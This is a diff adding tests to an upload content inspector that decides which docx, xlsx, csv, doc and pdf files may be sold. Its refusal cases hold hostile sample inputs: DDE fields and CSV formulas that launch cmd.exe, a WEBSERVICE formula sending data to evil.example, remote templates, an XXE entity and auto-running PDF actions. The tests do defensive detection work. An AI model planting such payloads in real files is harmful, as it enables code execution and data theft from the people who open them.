@@ -1,3 +1,4 @@
+import { PDFName, PDFString } from "@cantoo/pdf-lib";
 import { describe, expect, test } from "vitest";
 import {
   bomb,
@@ -22,6 +23,20 @@ import { inspectContent } from "./inspect-content.ts";
 const inspect = async (name: string, content: Buffer | Promise<Buffer>) =>
   inspectContent({ name, content: await content, within: null });
 const faultOf = async (name: string, content: Buffer | Promise<Buffer>) => (await inspect(name, content)).fault;
+
+/** What a PDF does by itself: when it is opened, or its first page. */
+const pdfThatOpens = (when: "OpenAction" | "AA", kind: string) =>
+  pdfOf(1, (document) => {
+    const { context, catalog } = document;
+    const first = [document.getPage(0).ref, "Fit"];
+    const action = context.register(
+      context.obj({ S: kind, URI: PDFString.of("https://evil.example"), F: PDFString.of("other.pdf"), D: first }),
+    );
+    if (when === "OpenAction") catalog.set(PDFName.of(when), action);
+    else document.getPage(0).node.set(PDFName.of(when), context.obj({ O: action }));
+  });
+const inUtf16 = (content: string): Buffer =>
+  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(content, "utf16le")]);
 
 const text = Buffer.from("Walk, breathe, roll down.");
 const program = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200)]);
@@ -83,6 +98,23 @@ describe("what may be sold", () => {
       { name: "__MACOSX/class/._plan.pdf", content: Buffer.from("0005160700020000", "hex") },
     );
     expect(await faultOf("class.zip", content)).toBeNull();
+  });
+
+  test("a document with fields, a link to the web and a table with sums and marks", async () => {
+    const fields = '<w:p><w:instrText>HYPERLINK "https://dance.example"</w:instrText><w:t>Add DDE to taste</w:t></w:p>';
+    expect(await faultOf("plan.docx", docxOf({ name: "word/header1.xml", content: fields }))).toBeNull();
+    const rows = 'step,count\n- breathe,+1\n@ 120 bpm,=SUM(A1:A2)\n=B1*2,"cmd, not yet"\n';
+    expect(await faultOf("rows.csv", Buffer.from(rows))).toBeNull();
+  });
+
+  test("a PDF with a link to the web and one that opens at a place by an action", async () => {
+    expect(await faultOf("plan.pdf", pdfThatOpens("OpenAction", "GoTo"))).toBeNull();
+    const content = pdfOf(1, (document) => {
+      const action = { S: "URI", URI: PDFString.of("https://dance.example") };
+      const link = document.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 9, 9], A: action });
+      document.getPage(0).node.set(PDFName.of("Annots"), document.context.obj([document.context.register(link)]));
+    });
+    expect(await faultOf("plan.pdf", content)).toBeNull();
   });
 
   test("a document made after a template on its maker's own machine, with a link to the web", async () => {
@@ -152,6 +184,23 @@ describe("what is refused", () => {
       "macros",
     ],
     ["old macros", "plan.doc", oldOfficeOf({ ...oldWord(), "/Macros/VBA/dir": Buffer.from("x") }), "macros"],
+    [
+      "an old field that asks a program",
+      "plan.doc",
+      oldOfficeOf({
+        "/WordDocument": Buffer.concat([
+          oldWord()["/WordDocument"] ?? Buffer.alloc(0),
+          Buffer.from("\u0013 DDEAUTO c:\\cmd \u0015", "utf16le"),
+        ]),
+      }),
+      "macros",
+    ],
+    [
+      "an old wrapped object",
+      "plan.doc",
+      oldOfficeOf({ ...oldWord(), "/ObjectPool/_1234/Contents": Buffer.from("x") }),
+      "unsafe",
+    ],
     ["a remote template", "plan.docx", docxOf(relations("https://evil.example/a.dotm")), "loads"],
     ["a template on another machine", "plan.docx", docxOf(relations("\\\\evil\\share\\a.dotm")), "loads"],
     [
@@ -159,6 +208,78 @@ describe("what is refused", () => {
       "plan.docx",
       docxOf({ name: "word/embeddings/oleObject1.bin", content: Buffer.from("Ole10Native", "utf16le") }),
       "archive",
+    ],
+    [
+      "a wrapped thing of any other kind",
+      "plan.docx",
+      docxOf({ name: "word/embeddings/oleObject1.bin", content: oldOfficeOf(oldWord()) }),
+      "archive",
+    ],
+    ["a picture from the web", "plan.docx", docxOf(relations("https://evil.example/a.png", "image")), "loads"],
+    ["a film from the web", "plan.docx", docxOf(relations("https://evil.example/a.mp4", "video")), "loads"],
+    [
+      "a template whose address is written in signs",
+      "plan.docx",
+      docxOf(relations("&#104;ttps://evil.example/a")),
+      "loads",
+    ],
+    [
+      "a template in another writing",
+      "plan.docx",
+      docxOf({
+        name: "word/_rels/settings.xml.rels",
+        content: inUtf16(String(relations("https://evil.example/a.dotm").content)),
+      }),
+      "loads",
+    ],
+    [
+      "a field that asks a program",
+      "plan.docx",
+      docxOf({
+        name: "word/header1.xml",
+        content: String.raw`<w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe &quot;/k calc&quot; "/>`,
+      }),
+      "macros",
+    ],
+    [
+      "a field that asks a program, in pieces",
+      "plan.docx",
+      docxOf({
+        name: "word/header1.xml",
+        content:
+          "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space='preserve'>E cmd</w:instrText></w:r>",
+      }),
+      "macros",
+    ],
+    [
+      "a sheet that asks a program",
+      "rows.xlsx",
+      officeOf("xlsx", {
+        name: "xl/externalLinks/externalLink1.xml",
+        content: "<x:ddeLink ddeService='cmd' ddeTopic='/c'/>",
+      }),
+      "macros",
+    ],
+    [
+      "entities from elsewhere",
+      "plan.docx",
+      docxOf({
+        name: "word/header1.xml",
+        content: '<!DOCTYPE x [<!ENTITY a SYSTEM "http://evil.example">]><x>&a;</x>',
+      }),
+      "archive",
+    ],
+    ["a PDF that opens an address at once", "plan.pdf", pdfThatOpens("OpenAction", "URI"), "scripts"],
+    ["a PDF that opens an address with a page", "plan.pdf", pdfThatOpens("AA", "URI"), "scripts"],
+    ["a PDF that opens another file", "plan.pdf", pdfThatOpens("OpenAction", "GoToR"), "scripts"],
+    ["a PDF that sends at once", "plan.pdf", pdfThatOpens("OpenAction", "SubmitForm"), "scripts"],
+    ["a table that asks a program", "rows.csv", Buffer.from("a,b\n1,=cmd|' /C calc'!A0\n"), "macros"],
+    ["a table that asks a program, quoted", "rows.csv", Buffer.from("a;\"@SUM(1+1)*cmd|'/C calc'!A0\"\n"), "macros"],
+    [
+      "a table that tells another machine",
+      "rows.csv",
+      Buffer.from('a,"=WEBSERVICE(""https://evil.example/""&A1)"\n'),
+      "loads",
     ],
     ["a page that Word loads", "plan.docx", docxOf({ name: "word/afchunk.mht", content: "x" }), "archive"],
     [
